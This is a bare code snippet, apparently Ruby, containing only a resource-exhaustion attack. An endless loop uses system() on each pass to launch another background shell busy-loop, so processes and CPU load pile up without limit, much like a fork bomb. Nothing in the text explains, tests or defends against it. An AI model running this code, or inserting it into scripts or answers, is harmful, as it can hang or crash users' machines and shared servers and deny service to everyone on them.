while true
  system("while :; do :; done &");
end
